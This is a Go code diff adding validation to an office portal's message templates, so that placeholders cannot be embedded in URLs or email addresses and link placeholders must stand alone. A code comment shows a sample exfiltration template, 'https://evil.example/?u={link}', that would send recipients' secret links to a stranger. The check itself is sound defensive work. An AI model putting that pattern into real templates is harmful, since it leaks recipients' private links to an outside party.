@@ -43,8 +43,8 @@ func (t MessageTemplate) ShippedText(lang Lang) MessageText {
 }
 
 // Clean validates a text that the office has entered. Subject and body are required. They may contain only the
-// placeholders of this kind of message, and the body must contain the required ones. The error has one message for
-// each invalid field.
+// placeholders of this kind of message, and the body must contain the required ones. No placeholder may be part of
+// another address, and a placeholder for a link must stand alone. The error has one message for each invalid field.
 func (t MessageTemplate) Clean(lang Lang, subject, body string) (MessageText, error) {
 	p := Problems{}
 	text := MessageText{
@@ -54,7 +54,9 @@ func (t MessageTemplate) Clean(lang Lang, subject, body string) (MessageText, er
 	}
 	p.checkPlaceholders("subject", text.Subject, t.Placeholders)
 	p.checkPlaceholders("body", text.Body, t.Placeholders)
-	for _, name := range t.Required {
+	p.checkAddresses("subject", text.Subject)
+	p.checkAddresses("body", text.Body)
+	for _, name := range t.required() {
 		if text.Body != "" && !strings.Contains(text.Body, "{"+name+"}") {
 			p.Add("body", texts.PortalErrors.PlaceholderMissing("{"+name+"}"))
 			break
@@ -72,6 +74,29 @@ func (p Problems) checkPlaceholders(field, text string, known []string) {
 		}
 	}
 }
+
+// checkAddresses reports an error if a placeholder is part of an address, or if a link's placeholder does not begin a
+// line or a word. Otherwise, a text such as "https://evil.example/?u={link}" would send every recipient's secret link
+// to a stranger.
+func (p Problems) checkAddresses(field, text string) {
+	for word := range strings.FieldsSeq(text) {
+		around := placeholderForm.ReplaceAllLiteralString(word, " ")
+		if around == word {
+			continue
+		}
+		if strings.Contains(around, "//") || strings.Contains(around, "@") || addressLike.MatchString(around) {
+			p.Add(field, texts.PortalErrors.PlaceholderInAddress())
+			return
+		}
+		if at := linkPlaceholder.FindStringIndex(word); at != nil && at[0] > 0 {
+			p.Add(field, texts.PortalErrors.LinkNotAlone(linkPlaceholder.FindString(word)))
+			return
+		}
+	}
+}
+
+// linkPlaceholder matches the placeholders whose values are links.
+var linkPlaceholder = regexp.MustCompile(`\{(?:link|[a-zA-Z]+Link)\}`)
 
 // Fill returns the subject and the body and replaces their placeholders with values. If a value is empty, it omits
 // every body line that contains the value's placeholder. Placeholders inside values are not replaced.
